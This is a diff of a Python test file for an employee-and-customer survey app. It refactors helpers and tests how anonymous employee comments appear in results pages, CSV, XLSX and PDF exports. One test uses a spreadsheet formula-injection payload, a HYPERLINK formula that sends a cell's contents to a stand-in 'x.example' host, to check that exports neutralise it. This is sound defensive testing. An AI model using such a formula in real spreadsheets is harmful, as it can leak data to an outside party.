@@ -20,21 +20,20 @@ from openpyxl import load_workbook
 from pypdf import PdfReader
 
 from maturity.core import place
-from maturity.core.actions import PlanInput, generate
+from maturity.core.actions import PlanInput
 from maturity.extensions import db
-from maturity.instrument import load_instrument
 from maturity.results.services import DisclosureError, check_disclosure, round_results
 from maturity.privacy.retention import purge_round_answers
 from maturity.rounds import links, services
 from maturity.results import publication
 from maturity.rounds.models import Ballot, Invitation, Response, ResponseAnswer, Round
-from maturity.rounds.questionnaire import COMMENT_KEY, MAX_EMPLOYEE_COMMENT
+from maturity.rounds.questionnaire import COMMENT_KEY, MAX_EMPLOYEE_COMMENT, SECTIONS
 from maturity.tenancy.models import OrgRole
 
 from ..factories import member
-from ..security.test_confidentiality import _invitations, _round, _url
-from ..security.test_database_copies import CHANCE_BOUND, _committed_tenant, _matches, _physical, _ranked, _sqlite_files
-from .test_rounds import R, SECTIONS, full_answers, invite_and_get_link, open_round, opened, section_form  # noqa: F401
+from ..helpers import (CHANCE_BOUND, R, committed_tenant, full_answers, invitations_of, invite_and_get_link, matches,
+                       opened, physical_position, ranked, round_url, round_with_people, section_form, sqlite_files)
+from ..helpers import open_round  # noqa: F401  (a fixture)
 
 QUESTION_NL_OR_EN = ("What would you change tomorrow so that customers notice it?",
                      "Wat zou u morgen veranderen zodat klanten het merken?")
@@ -42,9 +41,9 @@ QUESTION_NL_OR_EN = ("What would you change tomorrow so that customers notice it
 
 def _voiced(app, world, comments, *, close=True, min_size=5):
     """A round in which one employee per comment submits, with that comment (None: none)."""
-    round_ = _round(world, departments={"Wonen": len(comments)}, min_size=min_size)
+    round_ = round_with_people(world, departments={"Wonen": len(comments)}, min_size=min_size)
     with app.test_request_context():
-        for invitation, comment in zip(_invitations(round_), comments):
+        for invitation, comment in zip(invitations_of(round_), comments):
             token = links.invitation_token(invitation.id, invitation.nonce)
             services.save_answers(invitation, token, full_answers())
             if comment is not None:
@@ -57,12 +56,12 @@ def _voiced(app, world, comments, *, close=True, min_size=5):
 
 
 def _csv_rows(client, world, round_) -> list[list[str]]:
-    body = client.get(_url(world, round_, "results.csv")).get_data(as_text=True).lstrip("\ufeff")
+    body = client.get(round_url(world, round_, "results.csv")).get_data(as_text=True).lstrip("\ufeff")
     return list(csv.reader(io.StringIO(body), delimiter=";"))
 
 
 def _pdf_text(client, world, round_) -> str:
-    pdf = PdfReader(io.BytesIO(client.get(_url(world, round_, "report.pdf")).data))
+    pdf = PdfReader(io.BytesIO(client.get(round_url(world, round_, "report.pdf")).data))
     return " ".join(" ".join(page.extract_text().split()) for page in pdf.pages)
 
 
@@ -124,7 +123,7 @@ def test_the_open_question_follows_the_last_section_and_is_kept_with_the_draft(m
 
 def test_the_open_question_is_optional_cleaned_and_at_most_1000_characters(app, world, open_round):
     services.invite_employees(open_round)
-    first = _invitations(open_round)[0]
+    first = invitations_of(open_round)[0]
     with app.test_request_context():
         token = links.invitation_token(first.id, first.nonce)
         services.save_answers(first, token, full_answers())
@@ -150,7 +149,7 @@ def test_the_longest_comment_seals_to_the_same_length_as_none(app, world):
     heaviest = {k: ("dk" if not k.startswith("quiz.") else v) for k, v in full_answers(mark="10").items()}
     lengths = []
     with app.test_request_context():
-        for invitation, comment in zip(_invitations(round_), (None, "😀\"\\" * 400, "a\n" * 500)):
+        for invitation, comment in zip(invitations_of(round_), (None, "😀\"\\" * 400, "a\n" * 500)):
             token = links.invitation_token(invitation.id, invitation.nonce)
             services.save_answers(invitation, token, heaviest)
             if comment:
@@ -176,7 +175,7 @@ def test_employee_comments_are_shown_from_the_comment_minimum(app, client, auth,
     if shown:
         assert sorted(results.employee_comments) == comments
     auth.login(world.ours.director)
-    page = client.get(_url(world, round_, "results")).get_data(as_text=True)
+    page = client.get(round_url(world, round_, "results")).get_data(as_text=True)
     section = _section(page, "employee-comments")
     assert ("Voorstel 00" in page) is shown and ("Voorstel 00" in section) is shown
     if not shown:
@@ -201,7 +200,7 @@ def test_employee_comments_never_appear_before_close_and_then_in_a_random_order(
     round_ = _voiced(app, world, written, close=False)
     auth.login(world.ours.director)
     for suffix in ("results", "results.csv", "results.xlsx", "report.pdf"):
-        response = client.get(_url(world, round_, suffix))
+        response = client.get(round_url(world, round_, suffix))
         assert response.status_code == 409 and b"Idee 0" not in response.data, suffix
     assert db.session.scalar(sa.select(sa.func.count()).select_from(Response)) == 0
     assert not any(b"Idee" in s for s in db.session.scalars(sa.select(Ballot.sealed)))
@@ -221,13 +220,13 @@ def test_page_pdf_csv_and_xlsx_show_the_same_employee_comments_in_the_same_order
     expected = round_results(round_).employee_comments
     assert sorted(expected) == sorted(c for c in comments if c)
     auth.login(world.ours.director)
-    page = _section(client.get(_url(world, round_, "results")).get_data(as_text=True), "employee-comments")
+    page = _section(client.get(round_url(world, round_, "results")).get_data(as_text=True), "employee-comments")
     assert re.findall(r"<li>([^<]*)</li>", page) == expected
     rows = _csv_rows(client, world, round_)
     section = next(r[0] for r in rows if r[4] == expected[0])
     assert [r[4] for r in rows if r[0] == section] == expected
     assert all(r[3] == "12" for r in rows if r[0] == section)  # the responses they rest on
-    workbook = load_workbook(io.BytesIO(client.get(_url(world, round_, "results.xlsx")).data))
+    workbook = load_workbook(io.BytesIO(client.get(round_url(world, round_, "results.xlsx")).data))
     sheet = next(s for s in workbook.worksheets if s.title not in ("Alle cijfers (lang)", "All figures (long)")
                  and s.cell(2, 1).value == expected[0])
     assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == expected
@@ -242,16 +241,16 @@ def test_a_formula_in_a_comment_stays_text_in_csv_and_xlsx(app, client, auth, wo
     formula = '=HYPERLINK("http://x.example/?leak="&A1,"klik")'
     round_ = _voiced(app, world, [formula, "@SUM(1+1)"] + ["Gewoon een idee"] * 8)
     auth.login(world.ours.director)
-    body = client.get(_url(world, round_, "results.csv")).get_data(as_text=True)
+    body = client.get(round_url(world, round_, "results.csv")).get_data(as_text=True)
     rows = _csv_rows(client, world, round_)
     assert sorted(["'" + formula, "'@SUM(1+1)"]) == sorted(r[4] for r in rows if r[4].startswith("'"))
     assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)
     assert ";=HYPERLINK" not in body
-    workbook = load_workbook(io.BytesIO(client.get(_url(world, round_, "results.xlsx")).data))
+    workbook = load_workbook(io.BytesIO(client.get(round_url(world, round_, "results.xlsx")).data))
     values = [c.value for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
     assert "'" + formula in values and not any(isinstance(v, str) and v.startswith(("=", "@")) for v in values)
     # The page and the report show it as typed (escaped HTML, not a formula anywhere).
-    assert "=HYPERLINK(&#34;http" in client.get(_url(world, round_, "results")).get_data(as_text=True)
+    assert "=HYPERLINK(&#34;http" in client.get(round_url(world, round_, "results")).get_data(as_text=True)
 
 
 # Retention -------------------------------------------------------------------------------------
@@ -282,28 +281,28 @@ def test_employee_comments_are_removed_with_the_raw_answers(app, client, auth, w
 # The action plan ----------------------------------------------------------------------------------
 
 def test_the_plan_says_what_employees_would_change_on_a_theme_beside_the_customers():
-    from ..unit.test_actions import INSTRUMENT, profile
+    from ..helpers import INSTRUMENT, generate_as_stored, group_profile
 
     customers = ["Op vrijdagmiddag is er niemand bereikbaar.", "Ik krijg op vrijdag een bandje."]
     employees = ["De telefoon op vrijdag opnemen tot vijf uur.", "Huurders binnen een dag terugbellen.",
                  "Klachten in het team bespreken.", "Elke klacht als tip zien.", "Brieven in gewone taal."]
-    plan = PlanInput(place(profile(customer=66)), [], [], [], comments=customers, employee_comments=employees)
-    result = generate(plan, INSTRUMENT)
+    plan = PlanInput(place(group_profile(customer=66)), [], [], [], comments=customers, employee_comments=employees)
+    result = generate_as_stored(plan, INSTRUMENT)
     [reach] = [p for p in result if p.theme == "reach"]
     assert "2 klanten schreven hierover" in reach.finding.nl
     assert "2 medewerkers noemden dit" in reach.finding.nl and "2 employees named this" in reach.finding.en
     assert "terugbellen" not in reach.finding.nl  # counted, not quoted: quotes are read from the results
     # Employees' suggestions alone start no focus area (it starts from a figure that should move).
     assert not any(p.theme == "criticism" for p in result)
-    below = generate(replace(plan, employee_comments=None), INSTRUMENT)
+    below = generate_as_stored(replace(plan, employee_comments=None), INSTRUMENT)
     assert "medewerkers" not in next(p for p in below if p.theme == "reach").finding.nl
 
 
 def test_the_plan_page_quotes_both_groups_labelled_and_stores_no_employee_quote(app, client, auth, world):
     employees = ["Telefoon op vrijdag opnemen", "Binnen een dag terugbellen"] + ["Iets anders"] * 8
-    round_ = _round(world, departments={"Wonen": len(employees)})
+    round_ = round_with_people(world, departments={"Wonen": len(employees)})
     with app.test_request_context():
-        for invitation, comment in zip(_invitations(round_), employees):
+        for invitation, comment in zip(invitations_of(round_), employees):
             token = links.invitation_token(invitation.id, invitation.nonce)
             services.save_answers(invitation, token, full_answers())
             services.save_comment(invitation, token, comment)
@@ -342,7 +341,7 @@ def test_the_comment_passes_through_the_ballot_box_and_is_stored_with_nothing_th
     the clear (not in a table, not in the files); after close each sits on an anonymous response
     in an order that says nothing about who submitted when."""
     people = 12
-    with _committed_tenant(app, "stem") as tenant:
+    with committed_tenant(app, "stem") as tenant:
         for _ in range(people - 1):
             member(tenant.org, OrgRole.EMPLOYEE, tenant.department)
         round_ = services.create_round(tenant.org, services.RoundSettings(
@@ -368,21 +367,21 @@ def test_the_comment_passes_through_the_ballot_box_and_is_stored_with_nothing_th
             for row in db.session.execute(sa.select(table)).all():
                 assert "Stemvoorstel" not in repr(row), table.name
         if db.engine.dialect.name == "sqlite":
-            assert b"Stemvoorstel" not in _sqlite_files()
+            assert b"Stemvoorstel" not in sqlite_files()
         assert len({len(s) for s in db.session.scalars(sa.select(Ballot.sealed).where(Ballot.round_id == round_id))}) == 1
 
         assert publication.close_by_worker(round_id) == "closed"
         db.session.expire_all()
-        physical = _physical()
+        physical = physical_position()
         is_pg = db.engine.dialect.name == "postgresql"
-        stored = _ranked(db.session.execute(sa.text(
+        stored = ranked(db.session.execute(sa.text(
             f"SELECT {physical}{'::text' if is_pg else ''}, comment FROM response WHERE round_id = :r"),
             {"r": round_id}).all())
         assert sorted(stored) == written
-        assert _matches(written, stored) <= CHANCE_BOUND  # the release order is not the submission order
+        assert matches(written, stored) <= CHANCE_BOUND  # the release order is not the submission order
         by_id = db.session.scalars(sa.select(Response.comment).where(Response.round_id == round_id)
                                    .order_by(Response.id)).all()
-        assert _matches(written, by_id) <= CHANCE_BOUND
+        assert matches(written, by_id) <= CHANCE_BOUND
         # Only the response holds the words; nothing on it points at a person, a link or a time.
         columns = {c.name for c in Response.__table__.columns}
         assert not columns & {"user_id", "invitation_id", "created_at", "submitted_at", "email"}
